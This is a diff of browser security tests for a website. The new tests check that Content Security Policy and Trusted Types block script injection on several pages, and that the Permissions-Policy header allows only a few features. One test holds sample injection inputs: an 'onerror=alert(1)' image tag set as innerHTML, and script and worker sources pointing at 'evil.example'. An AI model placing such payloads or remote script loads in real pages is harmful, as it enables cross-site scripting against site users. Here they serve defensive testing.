@@ -111,7 +111,7 @@ test('a member never downloads the admin screens, and nobody the payment script,
 })
 
 test('a public page paints before any of its files is there, and a script of another kind may not run [D-90]', async () => {
-  expectErrors(/Content Security Policy/)
+  expectErrors(/Content Security Policy|TrustedScript/)
   const visitor = await site.open('/robots.txt', { viewport: phone })
   await visitor.route('**/assets/**', (route) => route.abort())
   await visitor.goto('/faq')
@@ -121,10 +121,62 @@ test('a public page paints before any of its files is there, and a script of ano
   expect(await heading.evaluate((found) => getComputedStyle(found).fontFamily)).toContain('Newsreader')
   await visitor.evaluate(() => {
     const script = document.createElement('script')
-    script.textContent = 'document.title = "taken over"'
+    script.append('document.title = "taken over"')
     document.head.append(script)
   })
   expect(await visitor.title()).not.toBe('taken over')
+})
+
+test('no text becomes markup or a script, and no address but ours one, on any page [SEC-28]', async () => {
+  expectErrors(/Content Security Policy|TrustedTypes?|Trusted(HTML|Script)/)
+  for (const path of ['/faq', '/register', '/login']) {
+    const visitor = await site.open(path)
+    await see(visitor.getByRole('heading', { level: 1 }))
+    const outcomes = await visitor.evaluate(() => {
+      const script = document.createElement('script')
+      const sinks: Record<string, () => void> = {
+        html: () => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'),
+        document: () => document.write('<p>x'),
+        text: () => (script.text = 'alert(1)'),
+        address: () => (script.src = 'https://evil.example/x.js'),
+        data: () => (script.src = 'data:text/javascript,alert(1)'),
+        worker: () => void new Worker('https://evil.example/x.js'),
+        file: () => (script.src = '/api/files/x.js'),
+      }
+      const passed = Object.keys(sinks).filter((name) => {
+        try {
+          sinks[name]!()
+          return true
+        } catch {
+          return false
+        }
+      })
+      script.src = '/assets/own.js'
+      return { passed, own: script.src.endsWith('/assets/own.js') }
+    })
+    expect(outcomes, path).toEqual({ passed: [], own: true })
+  }
+})
+
+test('the browser forbids every feature but the few that our own pages use [SEC-28]', async () => {
+  const read = async (path: string) => {
+    const visitor = await site.open(path)
+    const header = (await visitor.request.get(path)).headers()['permissions-policy']!
+    const named = header.split(', ').map((one) => one.split('=')[0]!)
+    const { known, allowed } = await visitor.evaluate(() => {
+      type Policy = { features: () => string[]; allowedFeatures: () => string[] }
+      const policy = (document as unknown as { featurePolicy: Policy }).featurePolicy
+      return { known: policy.features(), allowed: policy.allowedFeatures() }
+    })
+    expect(known.filter((feature) => !named.includes(feature))).toEqual([])
+    return { allowed: allowed.sort(), header }
+  }
+  const few = ['clipboard-write', 'publickey-credentials-create', 'publickey-credentials-get']
+  const usual = await read('/faq')
+  expect(usual.allowed).toEqual(few)
+  expect(usual.header).toContain('web-share=(self)')
+  expect((await read('/register')).allowed).toEqual([...few, 'payment'].sort())
+  expect((await read('/guestlist')).allowed).toEqual(few)
 })
 
 test('a member on a public page sees no jump: what was painted stays while the page comes to life [D-90]', async () => {
